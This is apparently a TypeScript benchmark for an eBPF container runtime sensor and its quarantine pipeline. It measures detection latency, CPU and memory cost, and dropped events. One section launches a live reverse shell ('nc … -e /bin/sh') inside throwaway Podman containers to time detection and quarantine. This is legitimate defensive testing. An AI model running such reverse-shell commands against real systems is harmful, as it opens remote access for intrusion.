/**
 * `npm run bench:runtime`: the runtime sensor with its real native eBPF engine and Podman. Prints
 *  - exec in a container → detection emitted: p50/p99 over BENCH_RUNTIME_EXECS execs (default 300),
 *    measured from the kernel's exec timestamp (CLOCK_MONOTONIC) to the detection leaving the detector;
 *  - sensor (the native engine) and detector (this Node process) CPU and RSS, idle with
 *    BENCH_RUNTIME_IDLE_CONTAINERS containers (default 20) running;
 *  - the same at increasing exec rates (1, 2, 4, 8 parallel exec loops in one container), with
 *    events lost in the kernel and execs missed, to show where drops start; BENCH_RUNTIME_LOOPS sets
 *    the loop counts (default 1,2,4) and BENCH_RUNTIME_PACE_US a sleep between each loop's execs,
 *    to measure at a given rate (e.g. 4 loops, 6000 µs: about 500 execs/s);
 *  - a reverse shell → quarantine live, the whole loop through `containment up` (runUp in this
 *    process, enforcing): p50/p99 over BENCH_RUNTIME_UP_SHELLS reverse shells (default 50), each in
 *    a fresh container (a quarantined one stays quarantined, and repeats are aggregated), from the
 *    listener accepting the shell's connection (nc connects, then execs the shell) to the
 *    Quarantine's outcome (reported once the nftables table is in the container's netns).
 *    BENCH_RUNTIME_ONLY=up runs this section alone.
 * A benchmark, not a test: it fails when eBPF or Podman is missing.
 */
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { createServer } from 'node:net';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pino from 'pino';
import type { SensorEvent } from '../src/runtime/contracts.js';
import { execFileSync, spawn } from 'node:child_process';
import { freePortRun } from '../src/testing/ports.js';
import type { AuditLink } from '../src/audit/trail.js';
import { runUp } from '../src/up/run-up.js';
import { RuntimeDetector } from '../src/runtime/detector.js';
import { RuleRegistry } from '../src/runtime/rules/registry.js';
import { parseRuleFile } from '../src/runtime/rules/user-rules.js';
import { RuntimeFixture, ebpfMissing } from '../src/runtime/runtime-fixture.test-helper.js';
import { poll } from '../src/testing/wait.js';

const EXECS = Number(process.env.BENCH_RUNTIME_EXECS ?? 300);
const IDLE = Number(process.env.BENCH_RUNTIME_IDLE_CONTAINERS ?? 20);
const SHELLS = Number(process.env.BENCH_RUNTIME_UP_SHELLS ?? 50);
const CLK_TCK = 100;
/** `up`: only the reverse shell → quarantine section (5), e.g. for a before/after comparison. */
const ONLY_UP = process.env.BENCH_RUNTIME_ONLY === 'up';

const missing = ebpfMissing();
if (missing) {
  console.error(`bench:runtime needs ${missing}`);
  process.exit(1);
}

function cpuTicks(pid: number): number {
  const rest = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ') ?? [];
  return Number(rest[11]) + Number(rest[12]);
}
function rssMb(pid: number): number {
  const kb = Number(/^VmRSS:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0);
  return kb / 1024;
}
/** The sensor engine's memory: RSS beside what is private to it (its heap, the ring buffer's pages). */
function sensorMemory(pid: number): string {
  const text = readFileSync(`/proc/${pid}/smaps_rollup`, 'utf8');
  const mb = (field: string): string =>
    (Number(new RegExp(`^${field}:\\s+(\\d+)`, 'm').exec(text)?.[1] ?? 0) / 1024).toFixed(0);
  return `${mb('Rss')} MB RSS (${mb('Private_Dirty')} MB private dirty, ${mb('Pss')} MB PSS)`;
}
const pct = (sorted: number[], p: number): number =>
  sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? NaN;
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/** CPU (% of one core) and RSS of the sensor engine and of this process over `ms`. */
async function resources(
  sensorPid: number,
  ms: number,
): Promise<{ sensorCpu: number; nodeCpu: number; sensorRss: number; nodeRss: number }> {
  const t0 = cpuTicks(sensorPid);
  const n0 = process.cpuUsage();
  const start = Date.now();
  await sleep(ms);
  const wall = (Date.now() - start) / 1000;
  const n1 = process.cpuUsage(n0);
  return {
    sensorCpu: ((cpuTicks(sensorPid) - t0) / CLK_TCK / wall) * 100,
    nodeCpu: ((n1.user + n1.system) / 1e6 / wall) * 100,
    sensorRss: rssMb(sensorPid),
    nodeRss: process.memoryUsage().rss / 1024 / 1024,
  };
}

function podmanExec(name: string, script: string): Promise<void> {
  return new Promise<void>((resolve, reject) => {
    const child = spawn('podman', ['exec', name, 'sh', '-c', script], { stdio: 'ignore' });
    child.on('exit', (code) => (code === 0 ? resolve() : reject(new Error(`exec loop exited ${code}`))));
  });
}
/** Microseconds each loop sleeps between execs (busybox usleep), to pace the rate near a target such as 500/s. */
const PACE_US = Number(process.env.BENCH_RUNTIME_PACE_US ?? 0);
const loop = (n: number): string =>
  `n=0; while [ $n -lt ${n} ]; do /bin/true; n=$((n+1));${PACE_US > 0 ? ` usleep ${PACE_US};` : ''} done`;

const fixture = RuntimeFixture.create();
const rules = new RuleRegistry();
for (const r of parseRuleFile(
  `rules:
  - { id: bench_exec, title: bench exec, severity: LOW, event: exec, condition: { proc.cmdline: { contains: "bench-" } } }
  - { id: bench_true, title: bench loop exec, severity: LOW, event: exec, condition: { proc.name: "true" } }`,
  'bench',
).rules)
  rules.add(r);
const detector = new RuntimeDetector({ mode: 'ebpf', rules, aggregateWindowMs: 0 });
const counts = new Map<string, number>();
let target = '';
detector.onDetection((d) => {
  if (d.workload.containerId === target) counts.set(d.ruleId, (counts.get(d.ruleId) ?? 0) + 1);
});
const load = execFileSync('cat', ['/proc/loadavg'], { encoding: 'utf8' }).trim();
try {
  if (ONLY_UP) console.log(`load average at start: ${load}`);
  else await sensorSections();
  await reverseShellToQuarantine();
} finally {
  await detector.stop();
  fixture.cleanup();
}

/** 1–4: the sensor alone. */
async function sensorSections(): Promise<void> {
  // The machine's own exec rate, before any probe is attached.
  const bare = fixture.run();
  const b0 = Date.now();
  await podmanExec(bare.name, loop(1000));
  console.log(`load average at start: ${load}`);
  console.log(
    `without the sensor: 1000 execs in ${((Date.now() - b0) / 1000).toFixed(1)} s = ${(1000 / ((Date.now() - b0) / 1000)).toFixed(0)} execs/s`,
  );
  await detector.start();
  const sensorPid = detector.status().pid as number;
  const a = fixture.run();
  target = a.id;
  await sleep(1000);

  // 1. exec → detection latency, 50 execs/s.
  // Asynchronously: a synchronous exec would block this event loop and count as sensor latency.
  await podmanExec(
    a.name,
    `i=0; while [ $i -lt ${EXECS} ]; do /bin/echo bench-$i >/dev/null; i=$((i+1)); usleep 20000; done`,
  );
  await poll(
    () => counts.get('bench_exec') ?? 0,
    (n) => n >= EXECS,
    { ms: 30_000, every: 100 },
  );
  const lat = [...detector.latencySamplesMs()].sort((x, y) => x - y);
  console.log(
    `exec → detection (${counts.get('bench_exec') ?? 0}/${EXECS} detected, 50 execs/s): p50 ${pct(lat, 50).toFixed(2)} ms, p99 ${pct(lat, 99).toFixed(2)} ms, max ${lat.at(-1)?.toFixed(2)} ms`,
  );

  // 2. idle with N containers.
  for (let i = 0; i < IDLE; i++) fixture.run();
  await sleep(3000);
  const idle = await resources(sensorPid, 15_000);
  console.log(
    `idle, ${IDLE + 1} containers (15 s; other engineers' containers on this host also produce events): sensor ${idle.sensorCpu.toFixed(2)} % CPU, ${sensorMemory(sensorPid)}; detector ${idle.nodeCpu.toFixed(2)} % CPU, ${idle.nodeRss.toFixed(0)} MB RSS`,
  );

  // 3. exec rates: P parallel loops of /bin/true, 1000 execs each (tight, or paced by BENCH_RUNTIME_PACE_US).
  const PER_LOOP = 1000;
  for (const parallel of (process.env.BENCH_RUNTIME_LOOPS ?? '1,2,4').split(',').map(Number)) {
    counts.set('bench_true', 0);
    const lost0 = detector.status().lostEvents;
    const loops = Array.from({ length: parallel }, (_, i) => i).join(' ');
    const script = `for p in ${loops}; do (${loop(PER_LOOP)}) & done; wait`;
    const t0 = Date.now();
    const c0 = cpuTicks(sensorPid);
    const n0 = process.cpuUsage();
    await podmanExec(a.name, script);
    const secs = (Date.now() - t0) / 1000;
    await sleep(2000);
    const n1 = process.cpuUsage(n0);
    const total = parallel * PER_LOOP;
    const seen = counts.get('bench_true') ?? 0;
    const lost = detector.status().lostEvents - lost0;
    // CPU time per exec is what the load of the machine changes least; × 500 it gives the
    // share of a core at the issue's 500 execs/s.
    const sensorS = (cpuTicks(sensorPid) - c0) / CLK_TCK;
    const detectorS = (n1.user + n1.system) / 1e6;
    console.log(
      `${parallel} loop(s): ${total} execs in ${secs.toFixed(1)} s = ${(total / secs).toFixed(0)} execs/s; detected ${seen} (${total - seen} missed), lost events ${lost}; sensor ${((sensorS / (secs + 2)) * 100).toFixed(1)} % CPU (${((sensorS / total) * 1e6).toFixed(0)} µs/exec), ${sensorMemory(sensorPid)}; detector ${((detectorS / (secs + 2)) * 100).toFixed(1)} % CPU (${((detectorS / total) * 1e6).toFixed(0)} µs/exec), ${(process.memoryUsage().rss / 1048576).toFixed(0)} MB RSS`,
    );
  }
  // 4. User-space capacity: the detector fed exec events as fast as it takes them (no kernel), an
  // upper bound of the rate the pipeline sustains before the sensor's ring buffer fills.
  const cgroupId =
    statSync(`/sys/fs/cgroup/unified/libpod_parent/libpod-${a.id}`, { throwIfNoEntry: false })?.ino ??
    statSync(`/sys/fs/cgroup/machine.slice/libpod-${a.id}.scope`).ino;
  let feed: (e: SensorEvent) => void = () => {};
  const synthetic = new RuntimeDetector({
    rules,
    aggregateWindowMs: 0,
    sensor: {
      start: async (on) => void (feed = on),
      stop: async () => {},
      status: () => ({
        mode: 'ebpf',
        reasons: [],
        blindSpots: [],
        running: true,
        restarts: 0,
        lostEvents: 0,
        parseFailures: 0,
        events: 0,
      }),
    },
  });
  let got = 0;
  synthetic.onDetection(() => got++);
  await synthetic.start();
  const N = 20_000;
  const s0 = performance.now();
  for (let i = 0; i < N; i++)
    feed({
      kind: 'exec',
      pid: a.pid,
      ppid: a.pid,
      uid: 0,
      euid: 0,
      cgroupId,
      comm: 'true',
      path: '/bin/true',
      argv: ['/bin/true', `bench-${i}`],
      time: Date.now(),
      source: 'ebpf',
    });
  while (got < N) await sleep(5);
  const rate = N / ((performance.now() - s0) / 1000);
  await synthetic.stop();
  console.log(
    `detector capacity (user space only, ${N} exec events with a detection each): ${rate.toFixed(0)} events/s`,
  );

  const s = detector.status();
  console.log(
    `totals: events ${s.events}, lost ${s.lostEvents}, parse failures ${s.parseFailures}, restarts ${s.restarts}, not in a container ${s.droppedNoContainer}`,
  );
  await detector.stop(); // up's agent runs its own sensor
}

/** Runs `podman` without blocking this event loop (a blocked loop would delay the timestamps). */
function podman(args: string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn('podman', args, { stdio: ['ignore', 'pipe', 'ignore'] });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.on('exit', (code) =>
      code === 0 ? resolve(out) : reject(new Error(`podman ${args[0]} exited ${code}`)),
    );
  });
}

/** The first value `get` gives within `ms`; undefined (a miss, counted) after that. */
async function until<T>(
  get: () => T | undefined | Promise<T | undefined>,
  ms: number,
): Promise<T | undefined> {
  return (await poll(get, (v) => v !== undefined, { ms, every: 20 })).value;
}

/** 5. The whole loop through up: reverse shell exec → quarantine live, one fresh container each. */
async function reverseShellToQuarantine(): Promise<void> {
  const dataDir = mkdtempSync(join(tmpdir(), 'containment-bench-up-'));
  const labelValue = String(process.pid);
  const quarantined = new Map<string, number>();
  const failed: string[] = [];
  const up = await runUp({
    dataDir,
    port: await freePortRun(),
    rescanIntervalMs: 600_000,
    rematchIntervalMs: 60_000,
    gracePeriodSeconds: 1,
    labels: { 'containment-bench-up': labelValue },
    runtimeDetection: 'on',
    enforce: true,
    onDecision: (d) => {
      if (d.action !== 'Quarantine') return;
      const pod = d.workload.split('/')[1] ?? '';
      if (d.outcome === 'done') quarantined.set(pod, performance.now());
      else failed.push(`${pod}: ${d.outcome} ${d.message ?? ''}`);
    },
    logger: pino({ level: 'silent' }),
    notice: () => {},
  });
  const accepted: number[] = [];
  const acceptedAt: number[] = []; // wall clock, to line up with the records' times
  /** Per shell, ms from the accept to: detected, policy activation start, action start, action done. */
  const stages: number[][] = [];
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    accepted.push(performance.now());
    acceptedAt.push(Date.now());
    sockets.add(socket);
    socket.on('error', () => {});
  });
  const samples: number[] = [];
  let live = 0;
  try {
    const first = fixture.run(['--label', `containment-bench-up=${labelValue}`]);
    const [info] = JSON.parse(await podman(['inspect', first.name])) as {
      NetworkSettings: { Networks?: Record<string, { Gateway: string }> };
    }[];
    const gateway = Object.values(info?.NetworkSettings.Networks ?? {})[0]?.Gateway ?? '';
    await new Promise<void>((r) => server.listen(0, gateway, r));
    const { port } = server.address() as AddressInfo;
    const scanned = async (pod: string): Promise<true | undefined> => {
      const q = new URLSearchParams({ cluster: 'local', namespace: 'local', pod });
      const res = await fetch(`${up.scannerUrl}/v1/findings?${q}`, {
        headers: { authorization: `Bearer ${up.adminToken}` },
      });
      return res.status === 200 ? true : undefined;
    };
    const auditOf = async (pod: string): Promise<AuditLink | undefined> => {
      const res = await fetch(`${up.actionApiUrl}/v1/audit?namespace=local&pod=${pod}`, {
        headers: { authorization: `Bearer ${up.adminToken}` },
      });
      return ((await res.json()) as { trail: AuditLink[] }).trail[0];
    };
    for (let i = 0; i < SHELLS; i++) {
      const c = i === 0 ? first : fixture.run(['--label', `containment-bench-up=${labelValue}`]);
      // The agent knows the container (its start scan is in) before the shell: no scan in the figure.
      if ((await until(() => scanned(c.name), 30_000)) === undefined)
        throw new Error(`${c.name} not scanned`);
      const before = accepted.length;
      await podman(['exec', '-d', c.name, 'nc', gateway, String(port), '-e', '/bin/sh']);
      const t0 = await until(() => accepted[before], 10_000);
      const t1 = await until(() => quarantined.get(c.name), 10_000);
      if (t0 === undefined || t1 === undefined) {
        failed.push(`${c.name}: ${t0 === undefined ? 'no connection' : 'no quarantine within 10 s'}`);
        continue;
      }
      samples.push(t1 - t0);
      const link = await auditOf(c.name);
      if (link?.detection && link.activation && link.action.startedAt && link.action.completedAt) {
        const at = acceptedAt[before] as number;
        stages.push([
          Date.parse(link.detection.firstSeen) - at,
          link.activation.start - at,
          Date.parse(link.action.startedAt) - at,
          Date.parse(link.action.completedAt) - at,
        ]);
      }
      const tables = execFileSync('nsenter', ['-t', String(c.pid), '-n', 'nft', 'list', 'tables'], {
        encoding: 'utf8',
      });
      if (tables.includes('containment_quarantine')) live++;
      await podman(['rm', '--force', '--time', '0', c.name]).catch(() => {});
    }
  } finally {
    for (const s of sockets) s.destroy();
    server.close();
    await up.close();
    rmSync(dataDir, { recursive: true, force: true });
  }
  const sorted = [...samples].sort((x, y) => x - y);
  console.log(
    `reverse shell → quarantine live through up (${samples.length}/${SHELLS} shells, one container each; nftables table seen in ${live}): p50 ${pct(sorted, 50).toFixed(0)} ms, p99 ${pct(sorted, 99).toFixed(0)} ms, max ${sorted.at(-1)?.toFixed(0)} ms; load average now ${readFileSync('/proc/loadavg', 'utf8').split(' ').slice(0, 3).join(' ')}`,
  );
  const median = (i: number): string => {
    const v = stages.map((st) => st[i] as number).sort((x, y) => x - y);
    return pct(v, 50).toFixed(0);
  };
  console.log(
    `  medians from the accept (${stages.length} audited, wall clock ms): detected ${median(0)}, policy activation started ${median(1)}, Quarantine started ${median(2)}, done ${median(3)}`,
  );
  if (failed.length > 0) console.log(`  not measured: ${failed.join('; ')}`);
}
